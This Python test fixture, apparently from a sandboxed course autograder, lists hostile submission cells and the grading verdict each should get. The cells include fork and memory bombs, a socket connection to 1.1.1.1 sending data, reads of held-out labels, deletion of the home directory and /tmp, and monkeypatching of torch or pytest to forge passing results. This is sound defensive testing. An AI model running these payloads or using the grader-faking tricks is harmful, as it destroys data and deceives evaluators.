"""Hostile submissions: code written to crash, stall, escape or fool the grader.

Each attack is one code cell appended to one notebook of an otherwise correct submission (the reference
solution) or of the release stubs (so a forged pass would be visible). Extraction keeps imports, defs and
classes only, so every attack hides where student code really runs: a class body, a default argument,
``__init__`` or ``forward``. Placeholders in the code are filled per test: ``{labels}`` (the held-out
labels), ``{other}`` (another student's submission), ``{out}`` (this student's results folder),
``{sentinel}`` (a folder outside the sandbox), ``{port}`` (a TCP server on the host's loopback).

``loses`` are the parts that must score 0 (every other part keeps full marks); ``status`` is the verdict
results.json's ``extra_data.status`` must carry (several are accepted where two limits race).
"""
from __future__ import annotations

from dataclasses import dataclass

import nbformat

from autograder.results import SUITE_PARTS

LAB2_PARTS = ("simplenn_bn", "swish", "l1")


@dataclass(frozen=True)
class Attack:
    id: str
    notebook: str                    # key of course_config.NOTEBOOKS the cell goes into
    code: str
    loses: tuple[str, ...]
    status: tuple[str, ...] = ("ok",)
    base: str = "source"             # "source" (a correct submission) or "release" (the stubs)
    huge_predictions: bool = False
    why: str = ""

    def apply(self, nb, **paths) -> None:
        nb.cells.append(nbformat.v4.new_code_cell(self.code.format(**paths)))


_FORGED_REPORT = (
    '{{"nonce": "guess", "device": "cpu", "finished": true, "exit_status": 0, "current": null, '
    '"loading": null, "tests": []}}')

ATTACKS = (
    Attack("sys-exit-in-class-body", "simplenn", """
class Quit:
    import sys
    sys.exit(0)
""", loses=(), why="SystemExit while a statement loads skips that statement only: nothing needs Quit"),

    Attack("os-exit-in-default-argument", "resnet", """
def stop(code=__import__("os")._exit(0)):
    return code
""", loses=(), status=("exited",), why="the process dies while a statement loads: the next run skips that statement"),

    Attack("three-exits-at-load", "simplenn", """
class One:
    __import__("os")._exit(0)


class Two:
    __import__("os")._exit(0)


class Three:
    __import__("os")._exit(0)
""", loses=("simplenn",), status=("exited",),
           why="after two statements skipped for stopping a run, a third stop marks the whole module broken"),

    Attack("os-exit-in-forward", "simplenn_dev", """
class Swish(nn.Module):
    def forward(self, x):
        import os
        os._exit(0)
""", loses=("swish",), status=("exited",), why="the process dies inside a test: that part scores 0, the rest is regraded"),

    Attack("endless-loop-in-forward", "resnet", """
class ResNet20(ResNet20):
    def forward(self, x):
        while True:
            pass
""", loses=("resnet20",), status=("timeout",)),

    Attack("endless-loop-at-import", "simplenn_dev", """
class Spin:
    while True:
        pass
""", loses=(), status=("timeout",), why="one stop costs only what the looping statement defines (nothing here), once"),

    Attack("memory-bomb", "simplenn", """
class SimpleNN(SimpleNN):
    def __init__(self):
        super().__init__()
        hoard = []
        while True:
            hoard.append(bytearray(256 * 2 ** 20))
""", loses=("simplenn",), status=("memory",)),

    Attack("fork-bomb", "simplenn_dev", """
def l1_penalty(model, strength):
    import os
    while True:
        os.fork()
""", loses=("l1",), status=("processes", "memory")),

    Attack("network-connection", "simplenn_dev", """
class SimpleNNBN(SimpleNNBN):
    def __init__(self):
        super().__init__()
        import socket
        for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
            try:
                socket.create_connection((host, {port}), timeout=1).sendall(b"exfiltrated")
            except OSError:
                pass
""", loses=(), why="no network at all, not even the host's loopback"),

    Attack("read-held-out-labels", "simplenn_dev", """
class Swish(Swish):
    def __init__(self):
        super().__init__()
        try:
            leaked = open({labels!r}).read(40)
        except OSError:
            return
        raise RuntimeError("LEAKED " + leaked)
""", loses=(), why="the labels are not in the sandbox: Swish works and keeps full marks"),

    Attack("read-another-student", "simplenn", """
class SimpleNN(SimpleNN):
    def __init__(self):
        super().__init__()
        import os
        try:
            leaked = os.listdir({other!r})
        except OSError:
            return
        raise RuntimeError("LEAKED " + " ".join(leaked))
""", loses=()),

    Attack("write-results-and-feedback", "simplenn", """
class Forge:
    import os, json
    for name, text in (("results.json", json.dumps({{"score": 36, "tests": []}})), ("feedback.md", "36/36"),
                       ("pwned.txt", "x")):
        try:
            os.makedirs({out!r}, exist_ok=True)
            with open(os.path.join({out!r}, name), "w") as handle:
                handle.write(text)
        except OSError:
            pass
""", loses=()),

    Attack("fake-pytest-summary", "simplenn", """
class Brag:
    print("=" * 30 + " 64 passed in 1.23s " + "=" * 30)
    print('{{"score": 36}}')
""", loses=SUITE_PARTS, base="release", why="stdout is never read for outcomes"),

    Attack("monkeypatch-torch", "simplenn", """
class Patch:
    import torch
    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
""", loses=SUITE_PARTS, status=("tampered",), base="release"),

    Attack("monkeypatch-builtins", "simplenn", """
class Patch:
    import builtins
    builtins.sum = lambda items, start=0, _sum=builtins.sum: _sum(items, start)
""", loses=SUITE_PARTS, status=("tampered",), base="release",
           why="a replaced builtin is flagged even when it behaves (a sum that fakes parameter counts would not)"),

    Attack("monkeypatch-pytest-reports", "simplenn", """
class Patch:
    import _pytest.reports
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.failed = property(lambda self: False)
""", loses=SUITE_PARTS, status=("tampered",), base="release"),

    Attack("hide-failing-checks", "simplenn", """
class Hide:
    import sys
    plugin = sys.modules["autograder.suites.report_plugin"]
    for nodeid in [nodeid for nodeid in plugin._items if "test_simplenn.py" in nodeid]:
        del plugin._items[nodeid]
""", loses=SUITE_PARTS, status=("tampered",), base="release",
           why="a report that leaves out checks (with the right nonce) is not the rubric's: flagged"),

    Attack("rewrite-the-report", "simplenn", """
class Forge:
    import os
    with open(os.environ["HW2_REPORT_PATH"], "w") as handle:
        handle.write('""" + _FORGED_REPORT + """')
    os._exit(1)
""", loses=SUITE_PARTS, status=("tampered",), base="release"),

    Attack("atexit-handler", "simplenn", """
class Later:
    import atexit, os
    atexit.register(lambda: open(os.environ["HW2_REPORT_PATH"], "w").write('""" + _FORGED_REPORT + """'))
""", loses=SUITE_PARTS, base="release", why="the child ends with os._exit: atexit handlers never run"),

    Attack("delete-home-and-sentinel", "simplenn", """
class Wipe:
    import os, shutil
    for target in (os.path.expanduser("~"), {sentinel!r}, "/tmp"):
        shutil.rmtree(target, ignore_errors=True)
""", loses=()),

    Attack("huge-predictions-csv", "simplenn", "", loses=("predictions",), huge_predictions=True),
)
